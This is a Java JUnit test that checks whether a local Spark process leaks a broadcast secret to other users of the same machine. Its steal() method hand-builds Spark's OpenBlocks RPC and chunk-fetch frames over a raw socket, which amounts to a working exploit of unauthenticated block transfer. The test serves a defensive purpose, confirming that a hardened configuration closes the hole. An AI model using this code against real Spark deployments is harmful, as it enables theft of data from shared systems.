package org.lectern.command.spark;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.File;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.lectern.lane.WithoutNode;

/**
 * Plays another user of the machine who asks Spark's block transfer for a broadcast secret, in the protocol of
 * {@code org.apache.spark.network.protocol.MessageEncoder}.
 */
@WithoutNode
class SparkAttackTest {
    private static final String SECRET = "correct horse battery staple";
    private static final int CHUNK_FETCH_REQUEST = 0;
    private static final int CHUNK_FETCH_SUCCESS = 1;
    private static final int RPC_REQUEST = 3;
    private static final int RPC_RESPONSE = 4;

    /** A part of a frame. */
    private interface Part {
        void write(DataOutputStream out) throws IOException;
    }

    @BeforeEach
    void requireSpark() {
        SparkCommandLine.require();
    }

    @Test
    void aSparkAsItComesServesItToEverybody() throws Exception {
        assertThat(stolenFrom("plain")).contains(SECRET);
    }

    @Test
    void aRunOfLecternServesItToNobodyElse() throws Exception {
        assertThat(stolenFrom("configured")).isEmpty();
    }

    private static String stolenFrom(String mode) throws Exception {
        Path jar = Path.of(System.getProperty("lectern.spark.jar"));
        List<String> words = new ArrayList<>(
                List.of(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-XX:TieredStopAtLevel=1"));
        words.addAll(SparkLaunch.opening());
        words.addAll(List.of(
                "-cp",
                jar
                        + File.pathSeparator
                        + Path.of("target", "classes")
                        + File.pathSeparator
                        + Files.readString(jar.resolveSibling("spark.classpath"))
                                .strip(),
                Path.of("src", "test", "resources", "spark", "BroadcastHolder.java")
                        .toString(),
                mode,
                SECRET));
        Process holder = new ProcessBuilder(words)
                .redirectError(
                        Path.of("target", "spark-attack-" + mode + ".log").toFile())
                .start();
        try (BufferedReader said = holder.inputReader(StandardCharsets.UTF_8)) {
            String line = said.readLine();
            while (line != null && !line.startsWith("served ")) {
                line = said.readLine();
            }
            return steal(Objects.requireNonNull(line, "the run ended; see its log in target")
                    .split(" ", -1));
        } finally {
            holder.destroy();
            holder.waitFor();
        }
    }

    /** What is got: the bytes of the block as text, or nothing. */
    private static String steal(String[] served) throws IOException {
        try (Socket socket = new Socket(served[1], Integer.parseInt(served[2]))) {
            DataOutputStream out = new DataOutputStream(socket.getOutputStream());
            DataInputStream in = new DataInputStream(socket.getInputStream());
            byte[] open = bytes(body -> {
                body.writeByte(0); // OpenBlocks
                text(body, served[3]);
                text(body, served[4]);
                body.writeInt(1);
                text(body, served[5]);
            });
            send(out, RPC_REQUEST, message -> {
                message.writeLong(1);
                message.writeInt(open.length);
                message.write(open);
            });
            byte[] handle = receive(in, RPC_RESPONSE);
            if (handle.length == 0) {
                return "";
            }
            DataInputStream stream = new DataInputStream(new java.io.ByteArrayInputStream(handle));
            stream.skipNBytes(Long.BYTES + Integer.BYTES + 1);
            long id = stream.readLong();
            send(out, CHUNK_FETCH_REQUEST, message -> {
                message.writeLong(id);
                message.writeInt(0);
            });
            return new String(receive(in, CHUNK_FETCH_SUCCESS), StandardCharsets.ISO_8859_1);
        }
    }

    private static void text(DataOutputStream out, String text) throws IOException {
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        out.writeInt(bytes.length);
        out.write(bytes);
    }

    private static byte[] bytes(Part part) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        part.write(new DataOutputStream(bytes));
        return bytes.toByteArray();
    }

    private static void send(DataOutputStream out, int type, Part message) throws IOException {
        byte[] bytes = bytes(message);
        out.writeLong(Long.BYTES + 1L + bytes.length);
        out.writeByte(type);
        out.write(bytes);
        out.flush();
    }

    /** The rest of the next frame if it is of this type; nothing if it is of another, or if the other side hangs up. */
    private static byte[] receive(DataInputStream in, int type) throws IOException {
        try {
            long length = in.readLong();
            int found = in.readUnsignedByte();
            byte[] rest = in.readNBytes(Math.toIntExact(length) - Long.BYTES - 1);
            return found == type ? rest : new byte[0];
        } catch (java.io.EOFException | java.net.SocketException hungUp) {
            return new byte[0];
        }
    }
}
